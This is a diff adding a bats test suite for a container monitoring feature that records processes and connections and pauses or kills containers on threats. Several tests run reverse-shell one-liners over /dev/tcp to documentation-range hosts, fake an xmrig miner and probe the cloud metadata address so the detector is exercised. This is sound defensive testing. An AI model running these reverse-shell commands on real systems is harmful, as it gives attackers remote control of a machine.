@@ -1,0 +1,349 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: GPL-2.0-or-later
+# Watching a container: what it runs and whom it connects to is recorded; threats are
+# acted upon; what was not seen is said.
+
+setup_file() {
+	load ../lib/common
+	coi_setup
+	settings true true
+}
+
+teardown_file() {
+	load ../lib/common
+	coi_teardown
+}
+
+setup() {
+	load ../lib/common
+	cd "$T/ws"
+	A=$HOME/.coi/audit
+	settings true true
+}
+
+settings() { # PAUSE KILL
+	printf '[container]\ninit = "coi-init"\n[monitoring]\nenabled = true\nauto_pause_on_high = %s\nauto_kill_on_critical = %s\n' \
+		"$1" "$2" >"$HOME/.coi/config.toml"
+}
+
+launch() { # NAME
+	coi container launch coi-default "$1" 2>"$T/launch.err" || { cat "$T/launch.err"; return 1; }
+}
+
+gone() {
+	coi container delete --force "$1" >/dev/null 2>&1 || true
+}
+
+inside() { # NAME COMMAND...
+	"$COI" container exec "$1" -- "${@:2}"
+}
+
+has() { # FILE JQ-CONDITION
+	jq -e "select($2)" "$1" 2>/dev/null | grep -q .
+}
+
+count() { # FILE JQ-CONDITION
+	jq -c "select($2)" "$1" | wc -l
+}
+
+running() {
+	coi container running "$1"
+}
+
+pid_of() { # NAME KEY: a number of its record
+	sed -n "s/^$2 *= *\([0-9]*\).*/\1/p" "$COI_ROOT/containers/$1/container.ini"
+}
+
+watcher_of() { # NAME: pid
+	ps -eo pid=,ppid=,comm= | awk -v s="$(pid_of "$1" supervisor)" '$2 == s && $3 == "coi-watch" { print $1 }'
+}
+
+@test "each program that runs is in the record, with words, numbers and the file behind it" {
+	launch w1
+	inside w1 bash -c 'ln -s /usr/bin/bash /tmp/innocent; exec -a other /tmp/innocent -c : "two words" "$1"' x "it's"
+	within 10 has "$A/w1.jsonl" '.type == "exec" and .exe == "bash" and .comm == "innocent"'
+	has "$A/w1.jsonl" '.exe == "bash" and .uid == 0 and .pid > 0 and .ppid > 0'
+	[ "$(jq -r 'select(.exe == "bash").args' "$A/w1.jsonl")" = "other -c : 'two words' 'it'\\''s'" ]
+	# What ran before the watching is there too, and says so.
+	has "$A/w1.jsonl" '.type == "exec" and .args == "/run/coi/init" and .was_running'
+	has "$A/w1.jsonl" '.type == "audit" and .msg == "source.start" and .source == "exec"'
+	coi audit verify w1
+	gone w1
+}
+
+@test "short ones by the thousand: none is missing" {
+	local n
+	n=$(long 3000 10000)
+	launch w2
+	inside w2 bash -c "for ((i = 0; i < $n; i++)); do /bin/true nr-\$i; done"
+	within 60 has "$A/w2.jsonl" '.type == "exec" and .args == "/bin/true nr-'$((n - 1))'"'
+	[ "$(jq -r 'select(.type == "exec") | .args' "$A/w2.jsonl" | grep -c '^/bin/true nr-' )" = "$n" ]
+	[ "$(jq -r 'select(.type == "exec") | .args' "$A/w2.jsonl" | sed -n 's/^.bin.true nr-//p' | sort -nu | wc -l)" = "$n" ]
+	! has "$A/w2.jsonl" '.msg == "source.lost"'
+	coi audit verify w2
+	gone w2
+}
+
+@test "what a container calls its programs harms nobody who reads it" {
+	launch w3
+	inside w3 bash -c '/bin/echo "$(printf "a\033]0;title\007b\nnext \377\342\200\256")"'
+	inside w3 bash -c '/bin/true "$(printf %0120000d 7)" end' || true
+	within 10 has "$A/w3.jsonl" '.comm == "true" and .args_bytes > 120000'
+	! grep -qP '[\x00-\x08\x0e-\x1f\x7f]' "$A/w3.jsonl"
+	grep -q 'a\\\\x1b\]0;title\\\\x07b\\\\x0anext \\\\xff' "$A/w3.jsonl"
+	coi audit w3 --format text >"$T/text"
+	! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
+	# A secret in a command line is not in the record.
+	inside w3 /bin/true --password hunter2 TOKEN=hunter2
+	within 10 grep -q 'password' "$A/w3.jsonl"
+	! grep -q hunter2 "$A/w3.jsonl"
+	gone w3
+}
+
+@test "two containers: each has its own" {
+	launch w4
+	launch w5
+	inside w4 /bin/true only-four
+	inside w5 /bin/true only-five
+	within 10 grep -q only-four "$A/w4.jsonl"
+	within 10 grep -q only-five "$A/w5.jsonl"
+	! grep -q only-five "$A/w4.jsonl"
+	! grep -q only-four "$A/w5.jsonl"
+	gone w4
+	gone w5
+}
+
+@test "critical: recorded, then dead, and the record is whole" {
+	local from to
+	launch k1
+	from=$(date +%s%N)
+	inside k1 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- || true
+	within 10 not_running k1
+	to=$(date +%s%N)
+	echo "# command given to container gone: $(((to - from) / 1000000)) ms" >&3
+	coi logs k1 | grep -o 'all of it is dead.*' | sed 's/^/# /' >&3
+	has "$A/k1.jsonl" '.level == "critical" and .action == "killed" and .category == "process" and
+		.title == "Reverse shell" and (.evidence.process.command | test("/dev/tcp/203.0.113.10/4444")) and
+		.evidence.process.pid > 0 and (.id | length) == 36'
+	# The exec itself is there, before what was found in it.
+	[ "$(jq -r 'select((.type == "exec" and (.args | test("dev/tcp"))) or .level == "critical") | .type // "threat"' "$A/k1.jsonl" | head -n 2 | xargs)" = "exec threat" ]
+	has "$A/k1.jsonl" '.type == "container.stop" and (.reason | test("Reverse shell"))'
+	coi audit verify k1
+	coi logs k1 | grep -q 'killed; why: threat: Reverse shell'
+	# Kept, and started again it is watched again.
+	coi container start k1
+	inside k1 /bin/true again
+	within 10 grep -q '/bin/true again' "$A/k1.jsonl"
+	gone k1
+}
+
+not_running() {
+	! coi container running "$1" 2>/dev/null
+}
+
+@test "a shell on a socket is found whatever is written anywhere" {
+	launch k2
+	printf 'exec 3<>/dev/tcp/public.test/80\nsh <&3 >&3 2>&3\n' >"$T/ws/x"
+	chmod 0644 "$T/ws/x"
+	coi file push "$T/ws/x" k2:/tmp/x
+	inside k2 bash /tmp/x 3>&- >/dev/null 2>&1 || true
+	within 10 not_running k2
+	has "$A/k2.jsonl" '.level == "critical" and .evidence.process.pattern == "reverse-shell.socket"'
+	has "$A/k2.jsonl" '.type == "exec" and .stdio == "remote remote remote"'
+	gone k2
+}
+
+@test "high: frozen; unfreeze says for what, and the same again freezes it again" {
+	launch f1
+	inside f1 sh -c 'ln -s /usr/bin/bash /tmp/xmrig; /tmp/xmrig -c :' 3>&- &
+	local pid=$!
+	within 10 has "$A/f1.jsonl" '.level == "high" and .action == "paused"'
+	frozen f1
+	run -0 coi unfreeze f1
+	echo "$output"
+	grep -q 'f1 was frozen for: .* high process Attack tool' <<<"$output"
+	wait "$pid"
+	has "$A/f1.jsonl" '.type == "container.unfreeze" and (.frozen_for | length) == 36'
+	sleep 1.2
+	inside f1 /tmp/xmrig -c : 3>&- &
+	pid=$!
+	within 10 frozen f1
+	[ "$(count "$A/f1.jsonl" '.action == "paused"')" = 2 ]
+	run -0 coi unfreeze
+	grep -q 'No frozen containers found' <<<"$output" # it has no name of a session
+	coi unfreeze f1
+	wait "$pid"
+	gone f1
+}
+
+frozen() {
+	[ "$(coi container list --format json | jq -r --arg n "$1" '.[] | select(.name == $n).status')" = Frozen ]
+}
+
+@test "warnings are recorded once in a while, and nothing is stopped by them" {
+	launch a1
+	for _ in 1 2 3 4 5; do inside a1 env >/dev/null; done
+	within 10 has "$A/a1.jsonl" '.level == "warning" and .category == "environment" and .action == "alerted"'
+	[ "$(count "$A/a1.jsonl" '.category == "environment"')" = 1 ]
+	running a1
+	# The others are counted, and told when the container ends.
+	gone a1
+	has "$A/a1.jsonl" '.category == "environment" and .action == "deduplicated" and .count == 4'
+}
+
+@test "with both actions off everything is recorded and nothing is done" {
+	settings false false
+	launch o1
+	inside o1 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- || true
+	within 10 has "$A/o1.jsonl" '.level == "critical" and .action == "alerted"'
+	running o1
+	! frozen o1
+	gone o1
+}
+
+@test "connections: recorded with what became of them; private ones and control ports are threats" {
+	settings false false
+	launch n1
+	inside n1 bash -c ': >/dev/tcp/203.0.113.10/80' || true
+	inside n1 bash -c ': >/dev/tcp/10.9.9.9/80' || true
+	inside n1 bash -c ': >/dev/tcp/169.254.169.254/80' || true
+	inside n1 bash -c ': >/dev/tcp/127.0.0.1/4444' || true
+	within 10 has "$A/n1.jsonl" '.type == "net" and .peer == "203.0.113.10:80" and .state == "connect" and .comm == "bash" and .proto == "tcp"'
+	within 10 has "$A/n1.jsonl" '.type == "net" and .peer == "10.9.9.9:80" and .state == "refused"'
+	within 10 has "$A/n1-nft.jsonl" '.level == "warning" and .rule == "network.private" and .evidence.network.connection.remote_addr == "10.9.9.9:80"'
+	within 10 has "$A/n1-nft.jsonl" '.level == "warning" and .rule == "network.metadata"'
+	! grep -q '127.0.0.1' "$A/n1-nft.jsonl"
+	inside n1 bash -c ': >/dev/tcp/203.0.113.10/31337' || true
+	within 10 has "$A/n1-nft.jsonl" '.level == "critical" and .rule == "network.control-port"'
+	coi audit verify n1
+	# One view of both files.
+	coi audit n1 --category network --level critical | jq -e '.rule == "network.control-port"'
+	gone n1
+}
+
+@test "a watcher that dies is started again, and the gap is recorded" {
+	launch g1
+	local first second
+	first=$(watcher_of g1)
+	[ -n "$first" ]
+	kill -9 "$first"
+	within 10 has "$A/g1.jsonl" '.msg == "source.gap" and .level == "warning" and (.since | length) > 0'
+	second=$(watcher_of g1)
+	[ "$first" != "$second" ]
+	within 10 again_seen g1
+	gone g1
+}
+
+again_seen() { # it sees what is run from now on
+	inside "$1" /bin/true again-$RANDOM-x
+	sleep 0.2
+	tail -n 3 "$A/$1.jsonl" | grep -q 'again-.*-x'
+}
+
+@test "a supervisor that dies: the next command's goes on watching, and the gap is recorded" {
+	launch g2
+	kill -9 "$(pid_of g2 supervisor)"
+	running g2
+	within 10 has "$A/g2.jsonl" '.msg == "source.gap" and (.raw | test("supervisor"))'
+	within 20 again_seen g2
+	inside g2 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- || true
+	within 10 not_running g2
+	gone g2
+}
+
+@test "where nobody tells it is looked for, and the record says what is not seen then" {
+	COI_WATCH_BACKENDS=exec=poll,connect=none launch p1
+	has "$A/p1.jsonl" '.msg == "source.unavailable" and .source == "exec" and .backend == "bpf"'
+	has "$A/p1.jsonl" '.msg == "source.start" and .source == "exec" and .backend == "poll" and (.raw | test("shorter"))'
+	has "$A/p1.jsonl" '.msg == "source.unavailable" and .source == "connect"'
+	! has "$A/p1.jsonl" '.msg == "source.start" and .source == "connect"'
+	inside p1 sleep 5
+	has "$A/p1.jsonl" '.type == "exec" and .args == "sleep 5"'
+	gone p1
+}
+
+@test "nothing is watched that nobody wants watched" {
+	printf '[container]\ninit = "coi-init"\n' >"$HOME/.coi/config.toml"
+	launch q1
+	inside q1 /bin/true x
+	[ -z "$(watcher_of q1)" ]
+	! has "$A/q1.jsonl" '.type == "exec"'
+	gone q1
+}
+
+@test "the watcher has no rights and nobody's user, and does nothing while nothing happens" {
+	launch r1
+	local pid before after
+	pid=$(watcher_of r1)
+	grep -q '^CapEff:[[:space:]]*0000000000000000$' "/proc/$pid/status"
+	grep -q '^CapPrm:[[:space:]]*0000000000000000$' "/proc/$pid/status"
+	grep -q '^Seccomp:[[:space:]]*2$' "/proc/$pid/status"
+	grep -q '^NoNewPrivs:[[:space:]]*1$' "/proc/$pid/status"
+	[ "$(awk '/^Uid:/ { print $2 }' "/proc/$pid/status")" -gt 2000000000 ]
+	[ -z "$(ls "/proc/$pid/root/")" ]
+	before=$(awk '{ print $14 + $15 }' "/proc/$pid/stat")
+	sleep "$(long 5 30)"
+	after=$(awk '{ print $14 + $15 }' "/proc/$pid/stat")
+	echo "# ticks of CPU while idle: $((after - before))" >&3
+	[ "$before" = "$after" ]
+	gone r1
+}
+
+@test "a full disk: it goes on, what was lost is counted and said, and a threat finds its room" {
+	mkdir -p "$A"
+	mount -t tmpfs -o size=1m,mode=700 none "$A"
+	launch d1
+	inside d1 bash -c 'for ((i = 0; i < 4000; i++)); do /bin/true "$i-0123456789012345678901234567890123456789"; done'
+	sleep 1
+	inside d1 env >/dev/null
+	within 10 has "$A/d1.jsonl" '.category == "environment"'
+	local before
+	before=$(jq -r 'select(.type == "exec").args' "$A/d1.jsonl" | grep -c '/bin/true')
+	[ "$before" -lt 4000 ]
+	mount -o remount,size=8m "$A"
+	inside d1 /bin/true afterwards
+	within 10 has "$A/d1.jsonl" '.msg == "records.lost" and .count > 0 and (.raw | test("No space left"))'
+	[ "$(jq -r 'select(.msg == "records.lost").count' "$A/d1.jsonl" | awk '{ n += $1 } END { print n }')" -ge "$((4000 - before))" ]
+	coi audit verify d1
+	coi logs d1 | grep -q 'No space left'
+	gone d1
+	umount "$A"
+}
+
+@test "records of what is too old go when something starts" {
+	settings true true
+	printf 'audit_log_retention_days = 7\n' >>"$HOME/.coi/config.toml"
+	launch t1
+	gone t1
+	touch -d '8 days ago' "$A/t1.jsonl"
+	launch t2
+	within 5 test ! -e "$A/t1.jsonl"
+	[ ! -e "$A/t1.head" ]
+	gone t2
+}
+
+@test "amounts: a warning when much is written at once, high for too many processes" {
+	settings false false
+	printf 'file_read_threshold_mb = 5.0\nprocess_count_threshold = 20\npoll_interval_sec = 1\n' >>"$HOME/.coi/config.toml"
+	launch v1
+	has "$A/v1.jsonl" '.msg == "source.start" and .source == "counters"'
+	inside v1 sh -c 'dd if=/dev/zero of=/root/x bs=1M count=40 oflag=direct'
+	within 15 has "$A/v1.jsonl" '.level == "warning" and .title == "Much is written" and
+		.evidence.file_write.write_bytes_mb > 5 and .evidence.file_write.threshold_mb == 5'
+	inside v1 bash -c 'for ((i = 0; i < 25; i++)); do sleep 4 & done; wait' 3>&- &
+	within 15 has "$A/v1.jsonl" '.level == "high" and .title == "Many processes" and .evidence.process_count.count > 20 and
+		.evidence.process_count.threshold == 20'
+	wait $!
+	gone v1
+}
+
+@test "many new programs a second: frozen" {
+	printf 'process_spawn_rate_threshold = 50\n' >>"$HOME/.coi/config.toml"
+	launch s1
+	inside s1 bash -c 'for ((i = 0; i < 200; i++)); do /bin/true; done' 3>&- &
+	within 10 frozen s1
+	has "$A/s1.jsonl" '.level == "high" and .title == "Many new programs" and .action == "paused"'
+	coi unfreeze s1
+	wait $!
+	gone s1
+}
